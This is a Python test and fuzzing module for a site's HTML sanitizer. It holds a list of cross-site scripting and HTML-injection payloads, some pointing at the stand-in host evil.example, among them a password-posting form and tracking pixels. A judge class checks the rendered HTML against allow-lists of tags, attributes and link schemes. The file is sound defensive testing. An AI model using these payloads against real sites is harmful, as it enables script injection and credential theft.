"""Attacks on what reads our pages, and a judge of what came out.

The judge reads the HTML with another parser than the product's and knows nothing of its
allow-list. Used by tests and by `make fuzz`.
"""

import re
from html.parser import HTMLParser

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    '<img src="x`y" onload=alert(1)>',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src "
    "onerror=alert(1)&gt;'></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password type=password></form>",
    "<input type=image src=https://evil.example/x.png onfocus=alert(1) autofocus>",
    "<video src=https://evil.example/v poster=//evil.example/p onerror=alert(1)>",
    "<picture><source srcset=https://evil.example/x.png><img src=/files/a></picture>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<style>@import '//evil.example';</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a data-wikilink=x href=javascript:alert(1) onclick=alert(1)>x</a>",
    "<a data-wikilink='\"><script>alert(1)</script>' data-heading='\"onx=1'>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div id=document class='modal btn-main' popover tabindex=5>x</div>",
    "<table background=https://evil.example/x><td background=//evil.example>x",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '[x](/ok "t\\" onclick=alert(1) x=\\"")',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x](/accounts/logout/)",
    "![x](/files/../accounts/logout/)",
    "![x](/files/%2e%2e/accounts/logout/)",
    '![x" onerror="alert(1)](/files/a1/x.png)',
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[[x|<img src=x onerror=alert(1)>]]",
    '[[x" onclick="alert(1)]]',
    "[[x#\"onx='1]]",
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    '```py title="<script>alert(1)</script>"\n<script>alert(1)</script>\n```',
    "# x <img src=x onerror=alert(1)>",
    "!!! note onclick=alert(1)\n    x",
    '!!! note "<script>alert(1)</script>"\n    x',
    "> [!NOTE] <script>alert(1)</script>\n> x",
    '*[X]: "onmouseover=alert(1)\n\nX',
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <b onclick=x>",
    "<a href=//evil.example/x>x</a>",
    "<a href='\\\\evil.example'>x</a>",
]
FRAGMENTS = [
    *ATTACKS,
    *(
        "# ",
        "\n",
        "\n\n",
        "    ",
        "> ",
        "- ",
        "1. ",
        "|",
        "|--|\n",
        "```",
        "`",
        "*",
        "_",
    ),
    *("[", "]", "(", ")", "[[", "]]", "![", "<", ">", '"', "'", "&", "&#", ";", "\\"),
    *("<!--", "-->", "<![CDATA[", "]]>", "<a ", "<h1>", "</h2>", "<table>", "<td>"),
    *("</a>", "<p>", "</p>", "<details>", "!!! note\n", "[^1]", "[^1]: ", "*[x]: "),
    *(
        "x",
        "word ",
        "ö",
        "\u2028",
        "\x00",
        "\ud7ff",
        "🙂",
        "http://a.example",
        "a@b.nl",
    ),
]


class Judge(HTMLParser):
    """Lists what a page must not hold."""

    TAGS = re.compile(
        r"^(?:h[2-6]|p|a|abbr|b|blockquote|br|caption|cite|code|d[dlt]|del|details|dfn"
        r"|div|em|fig(?:caption|ure)|hr|i|img|input|ins|kbd|li|mark|[ou]l|pre|q|s|samp"
        r"|small|span|strong|su[bp]|summary|t(?:able|body|d|foot|h|head|r)|u|var|wbr)$"
    )
    ATTRIBUTES = re.compile(
        r"^(?:class|id|title|lang|dir|href|rel|role|data-wikilink|data-heading|src|alt"
        r"|width|height|loading|decoding|type|checked|disabled|aria-label|start"
        r"|reversed|colspan|rowspan|scope|tabindex|open)$"
    )

    def __init__(self):
        super().__init__()
        self.faults = []

    def handle_starttag(self, tag, attrs):
        if not self.TAGS.match(tag):
            self.faults.append(tag)
        values = {name: value or "" for name, value in attrs}
        self.faults += [name for name in values if not self.ATTRIBUTES.match(name)]
        if not re.match(r"^$|^(h|fn|fnref\d*)-", values.get("id", "")):
            self.faults.append("id=" + values["id"])
        if tag == "input" and (
            "disabled" not in values or values["type"] != "checkbox"
        ):
            self.faults.append("input")
        if tag == "img" and not self._is_ours(values["src"]):
            self.faults.append("img " + values["src"])
        if tag == "img" and ".." in values["src"].lower().replace("%2e", "."):
            self.faults.append("img " + values["src"])
        if "href" in values:
            self._link(values["href"], values.get("rel"))

    @staticmethod
    def _as_browsers_read(address):
        """Without control characters; a backslash is a slash. And the scheme, if any."""
        seen = re.sub(r"[\x00-\x20]", "", address).replace("\\", "/").lower()
        return seen, re.match(r"^([a-z][a-z0-9+.-]*):", seen)

    def _is_ours(self, address):
        """One of our files, or beside the page."""
        seen, scheme = self._as_browsers_read(address)
        return seen.startswith("/files/") or not (scheme or seen.startswith("/"))

    def _link(self, href, rel):
        seen, scheme = self._as_browsers_read(href)
        if scheme and scheme[1] not in {"http", "https", "mailto"}:
            self.faults.append(href)
        outside = seen.startswith(("//", "http:", "https:"))
        if outside and rel != "noopener noreferrer nofollow":
            self.faults.append(href)


def faults(html):
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults
